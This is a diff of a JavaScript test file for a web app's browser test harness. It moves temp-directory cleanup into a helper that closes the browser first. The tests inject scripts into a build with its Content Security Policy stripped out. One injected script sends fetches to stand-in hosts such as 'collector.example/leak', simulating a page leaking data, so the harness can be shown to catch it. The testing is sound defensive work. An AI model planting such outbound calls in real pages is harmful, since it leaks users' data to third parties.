@@ -16,9 +16,8 @@ import {
  * app's Content Security Policy: these tests prove that the harness itself sees what a page
  * does, which the policy would otherwise stop first (hosting.test.mjs tests the policy).
  */
-async function brokenDist(t, script) {
+async function brokenDist(script) {
   const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'lagebild-broken-'));
-  t.after(() => fs.rm(dir, { recursive: true, force: true }));
   await fs.cp(DIST, dir, { recursive: true });
   const index = path.join(dir, 'index.html');
   const html = (await fs.readFile(index, 'utf8'))
@@ -26,6 +25,17 @@ async function brokenDist(t, script) {
   assert.ok(!html.includes('Content-Security-Policy'));
   await fs.writeFile(index, html.replace('</body>', `<script>${script}</script></body>`));
   return dir;
+}
+
+/** Opens the broken copy; closes the browser before the copy is removed (the page may still
+ * be loading its worker when a test ends). */
+async function openBroken(t, root) {
+  const session = await openApp({ root });
+  t.after(async () => {
+    await session.close();
+    await fs.rm(root, { recursive: true, force: true });
+  });
+  return session;
 }
 
 async function until(condition, timeoutMs = 10_000) {
@@ -37,15 +47,14 @@ async function until(condition, timeoutMs = 10_000) {
 }
 
 test('eine Seite, die fremde Hosts anfragt, lässt die Prüfung scheitern', async (t) => {
-  const root = await brokenDist(t, `
+  const root = await brokenDist(`
     fetch('http://collector.example/leak?name=x').catch(() => {});
     new Image().src = 'https://cdn.example/pixel.gif';
     fetch('http://192.0.2.7/ip-literal').catch(() => {});
     fetch('https://accounts.google.com/page-leak').catch(() => {});
     fetch('./nicht-im-build.json').catch(() => {});
   `);
-  const session = await openApp({ root });
-  t.after(() => session.close());
+  const session = await openBroken(t, root);
   await waitForApp(session);
   const seen = (host) => session.server.requests.some((r) => r.host === host);
   await until(() => seen('collector.example') && seen('cdn.example:443') && seen('192.0.2.7')
@@ -67,9 +76,8 @@ test('eine Seite, die fremde Hosts anfragt, lässt die Prüfung scheitern', asyn
 });
 
 test('eine Seite mit Konsolenfehler lässt die Prüfung scheitern', async (t) => {
-  const root = await brokenDist(t, `console.error('absichtlicher Fehler');`);
-  const session = await openApp({ root });
-  t.after(() => session.close());
+  const root = await brokenDist(`console.error('absichtlicher Fehler');`);
+  const session = await openBroken(t, root);
   await waitForApp(session);
   await until(() => session.consoleErrors.length > 0);
   assert.throws(() => assertNoConsoleErrors(session), /absichtlicher Fehler/);
